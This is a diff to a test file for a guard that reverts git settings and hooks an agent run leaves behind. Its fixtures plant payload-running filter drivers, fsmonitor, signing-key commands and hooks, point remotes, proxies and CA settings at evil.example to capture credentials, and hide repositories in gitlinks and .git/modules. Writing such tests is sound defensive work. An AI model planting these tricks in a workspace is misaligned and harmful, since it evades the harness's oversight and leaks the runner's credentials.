@@ -84,6 +84,23 @@ const plants: Array<[string, () => void]> = [
     }
   ],
   [
+    // A subsection keeps its case in git; folded, the guard would unset another setting.
+    'a filter driver in a capitalised subsection (filter.EVIL)',
+    () => {
+      writeFileSync(join(ws, '.gitattributes'), '*.txt filter=EVIL\n')
+      git('config', 'filter.EVIL.clean', `sh -c '${payload()}; cat'`)
+      writeFileSync(join(ws, 'a.txt'), 'changed\n')
+    }
+  ],
+  [
+    'gpg.ssh.defaultKeyCommand with SSH-signed commits',
+    () => {
+      git('config', 'commit.gpgSign', 'true')
+      git('config', 'gpg.format', 'ssh')
+      git('config', 'gpg.ssh.defaultKeyCommand', `sh -c '${payload()}; echo key::ssh-ed25519 AAAA'`)
+    }
+  ],
+  [
     'include.path to a config of the agent’s',
     () => {
       writeFileSync(join(ws, 'evil.cfg'), `[core]\n\tfsmonitor = ${payload()}\n`)
@@ -160,6 +177,145 @@ describe('git settings and hooks the run leaves for the runner', () => {
     )
     expect(git('config', 'core.pager').trim()).toBe('less -R')
     expect(() => git('config', 'alias.x')).toThrow()
+  })
+
+  it('takes back settings that send git’s credentials elsewhere, in their own spelling', () => {
+    git('remote', 'add', 'origin', 'https://github.com/octo/repo')
+    const snapshot = snapshotGitExec(ws, [])
+    git('config', 'url.https://Evil.example/.insteadOf', 'https://x-access-token:')
+    git('config', 'remote.origin.url', 'https://evil.example/octo/repo')
+    git('config', 'remote.origin.pushurl', 'https://evil.example/octo/repo')
+    git('config', 'http.proxy', 'http://evil.example:8080')
+    git('config', 'http.https://github.com/.sslVerify', 'false')
+    git('config', 'http.sslCAInfo', join(ws, 'evil-ca.pem'))
+    git('config', 'http.curloptResolve', 'github.com:443:203.0.113.7')
+    const findings = revertGitExec(snapshot)
+    expect(findings.every((f) => f.route)).toBe(true)
+    expect(findings.map((f) => f.what).sort()).toEqual(
+      [
+        'http.curloptresolve',
+        'http.https://github.com/.sslverify',
+        'http.proxy',
+        'http.sslcainfo',
+        'remote.origin.pushurl',
+        'remote.origin.url',
+        'url.https://Evil.example/.insteadof'
+      ].map((k) => `removed ${k}, which the run set`)
+    )
+    expect(git('config', '--list')).not.toMatch(/evil|sslverify|curloptresolve|sslcainfo|proxy/i)
+    // The remote URL the repository had before the run is put back.
+    expect(git('config', 'remote.origin.url').trim()).toBe('https://github.com/octo/repo')
+  })
+
+  it('moves aside a repository the run made where there was none, and nothing else', () => {
+    const sub = join(ws, 'app')
+    mkdirSync(sub)
+    const inSub = (...args: string[]): string =>
+      execFileSync('git', args, {
+        cwd: sub,
+        encoding: 'utf8',
+        env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: ws }
+      })
+    // Untouched: nothing to report.
+    expect(revertGitExec(snapshotGitExec(sub, []))).toEqual([])
+    const snapshot = snapshotGitExec(sub, [])
+    inSub('init', '-q')
+    inSub('config', 'core.fsmonitor', payload())
+    const findings = revertGitExec(snapshot)
+    expect(findings.map((f) => f.what)).toEqual([
+      expect.stringMatching(
+        /^a git directory \(or gitfile\) the run made at the workspace root; moved aside/
+      )
+    ])
+    // git run there now finds the checkout's repository around it, and runs nothing planted.
+    inSub('status', '--short')
+    expect(existsSync(marker)).toBe(false)
+  })
+
+  it('moves aside a config it cannot list whole (padded past what it reads)', () => {
+    const snapshot = snapshotGitExec(ws, [])
+    git('config', 'core.fsmonitor', payload())
+    writeFileSync(
+      join(ws, '.git', 'config'),
+      `[pad]\n${'\tk = xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n'.repeat(1_500_000)}`,
+      { flag: 'a' }
+    )
+    const findings = revertGitExec(snapshot)
+    expect(findings.map((f) => f.what)).toEqual([
+      expect.stringMatching(/^config cannot be read whole .*; moved aside/)
+    ])
+    expect(laterStepRanPayload()).toBe(false)
+  })
+
+  it('moves aside a repository the run added to the index as a gitlink', () => {
+    const evil = join(ws, 'evil')
+    mkdirSync(evil)
+    const inEvil = (...args: string[]): string =>
+      execFileSync('git', args, {
+        cwd: evil,
+        encoding: 'utf8',
+        env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: ws }
+      })
+    const snapshot = snapshotGitExec(ws, [])
+    inEvil('init', '-q')
+    writeFileSync(join(evil, 'b'), 'b\n')
+    inEvil('add', 'b')
+    inEvil('-c', 'user.email=a@example.com', 'commit', '-qm', 'b')
+    inEvil('config', 'core.fsmonitor', payload())
+    git('add', 'evil')
+    // Control: git status in the root enters it and runs its fsmonitor.
+    git('status', '--short')
+    expect(existsSync(marker)).toBe(true)
+    rmSync(marker)
+    const findings = revertGitExec(snapshot)
+    expect(findings.map((f) => f.what)).toEqual([
+      expect.stringMatching(/^a repository the run made at a gitlink of the index/)
+    ])
+    expect(laterStepRanPayload()).toBe(false)
+    // A gitlink whose repository was there before the run is left as it is.
+    const again = snapshotGitExec(ws, [])
+    expect(revertGitExec(again)).toEqual([])
+  })
+
+  // As root (this test) permissions do not bind; red-team 81.8 runs it as the runner's uid.
+  it('takes back what it must though the run made the git directories read-only', () => {
+    const snapshot = snapshotGitExec(ws, [])
+    git('config', 'core.fsmonitor', payload())
+    writeFileSync(join(ws, '.git', 'hooks', 'pre-commit'), `#!/bin/sh\n${payload()}\n`, {
+      mode: 0o755
+    })
+    chmodSync(join(ws, '.git', 'hooks'), 0o555)
+    chmodSync(join(ws, '.git'), 0o555)
+    const findings = revertGitExec(snapshot).map((f) => f.what)
+    expect(findings).toEqual(
+      expect.arrayContaining([
+        'removed core.fsmonitor, which the run set',
+        expect.stringMatching(/^the run added the hook pre-commit; moved aside/)
+      ])
+    )
+    expect(laterStepRanPayload()).toBe(false)
+  })
+
+  it('moves aside a submodule repository the run made under .git/modules', () => {
+    const before = join(ws, '.git', 'modules', 'kept')
+    mkdirSync(before, { recursive: true })
+    writeFileSync(join(before, 'HEAD'), 'ref: refs/heads/main\n')
+    const snapshot = snapshotGitExec(ws, [])
+    const made = join(ws, '.git', 'modules', 'libs', 'evil')
+    mkdirSync(join(made, 'hooks'), { recursive: true })
+    writeFileSync(join(made, 'HEAD'), 'ref: refs/heads/main\n')
+    writeFileSync(join(made, 'hooks', 'post-checkout'), `#!/bin/sh\n${payload()}\n`, {
+      mode: 0o755
+    })
+    const findings = revertGitExec(snapshot)
+    expect(findings.map((f) => [f.path, f.what.replace(/ to .*/, '')])).toEqual([
+      [
+        '.git/modules/libs/evil',
+        'a submodule repository the run made under .git/modules (git submodule update would use it); moved aside'
+      ]
+    ])
+    expect(existsSync(made)).toBe(false)
+    expect(existsSync(before)).toBe(true)
   })
 
   it('moves a changed hook aside without following a link', () => {
